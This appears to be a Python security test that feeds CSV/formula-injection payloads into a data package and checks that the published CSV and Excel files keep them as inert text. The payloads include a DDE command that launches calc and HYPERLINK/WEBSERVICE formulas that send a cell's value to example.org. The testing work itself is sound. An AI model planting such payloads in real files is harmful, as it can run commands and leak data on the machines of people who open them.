"""Texts that Excel and its kin would take for formulas. Out: attacks by cells, headings, labels and titles, with a judge for each file."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path

import openpyxl

from tests.security.attacks.markup import text
from tests.security.sandbox import HARMLESS, REFUSED, Attack, Body
from tests.tools import FULL

LEADS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    " =",
    '"=',
    "=-",
    "+-+",
    "@=",
    "-=",
    "%0A=",
    ";=",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("https://example.org/?"&A1,"x")',
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org","//a")',
]
NUMBERS = ["-1", "+1", "-0.5", "-1e5", "1", "-9007199254740993", "-1.50"]
SETTINGS = '[tool.publisher]\ntarget = "public"\nlanguages = ["en"]\n'


def attacks() -> Iterator[Attack]:
    """Each payload in a package of its own in full runs; else those that begin alike share one, since they end alike."""
    for lead in LEADS:
        payloads = [lead + body for body in BODIES]
        for group in [[payload] for payload in payloads] if FULL else [payloads]:
            yield Attack(
                f"{group!r:.150}",
                package(group),
                ends=(HARMLESS, REFUSED),
                arguments=("publish", "p"),
                judge=lambda folder, group=group: judge(folder, group),  # type: ignore[misc]
                inputs=len(group),
            )


def package(payloads: Sequence[str]) -> dict[str, Body]:
    """Each payload as a cell, a heading, a label and a title; numbers beside it."""
    columns = [f"text{number}" for number, _ in enumerate(payloads)]
    fields = [
        {"name": "id", "type": "integer", "title": payloads[0]},
        {"name": "number", "type": "number"},
        {"name": "kind", "type": "string", "categories": [{"value": "a", "label": payloads[-1]}]},
        *(
            {"name": column, "type": "string", "title": payload, "description": payload}
            for column, payload in zip(columns, payloads, strict=True)
        ),
    ]
    resource = {"name": "t", "path": "t.csv", "title": payloads[0], "schema": {"fields": fields, "primaryKey": "id"}}
    rows = [[str(row), number, "a", *payloads] for row, number in enumerate(NUMBERS, start=1)]
    return {
        "pyproject.toml": SETTINGS,
        "datasets/p/datapackage.json": json.dumps({"name": "p", "title": payloads[0], "resources": [resource]}),
        "datasets/p/t.csv": text([["id", "number", "kind", *columns], *rows]),
    }


def judge(folder: Path, payloads: Sequence[str]) -> str:
    """What is wrong with the files of the release: programs read the text itself, Excel reads a text and no formula."""
    release = folder / "public/p/v/1.0.0"
    if not release.exists():
        return ""
    plain, excel = (_rows(release / name) for name in ("t.csv", "t.en.excel.csv"))
    if [row[3:] for row in plain[1:]] != [list(payloads)] * len(NUMBERS):
        return f"the text was changed: {plain[1]}"
    for row in excel:
        if bad := [
            cell for cell in row if runs(cell) and not re.fullmatch(r"[+-]?[\d.]+(e\+?\d+)?", cell, re.IGNORECASE)
        ]:
            return f"Excel would run {bad}"
    if [row[1] for row in excel[1:]] != [row[1] for row in plain[1:]]:
        return f"numbers were touched: {excel}"
    return _judge_workbook(release / "p.xlsx", payloads)


def runs(cell: str) -> bool:
    """Whether spreadsheets take a cell of a CSV for a formula (OWASP, CSV injection)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))


def _judge_workbook(path: Path, payloads: Sequence[str]) -> str:
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    kinds = {cell.column: cell.data_type for cell in cells}
    if any(cell.data_type == "f" for every in book.worksheets for row in every.iter_rows() for cell in row):
        return "the workbook has a formula"
    if set(kinds.values()) != {"s", "n"} or kinds[1] != "n" or kinds[4] != "s":
        return f"the workbook has cells of the kinds {kinds}"
    texts = [str(cell.value).replace("_x000D_", "\r") for cell in sheet[2][3:]]
    return "" if texts == list(payloads) else f"the workbook changed the texts to {texts}"
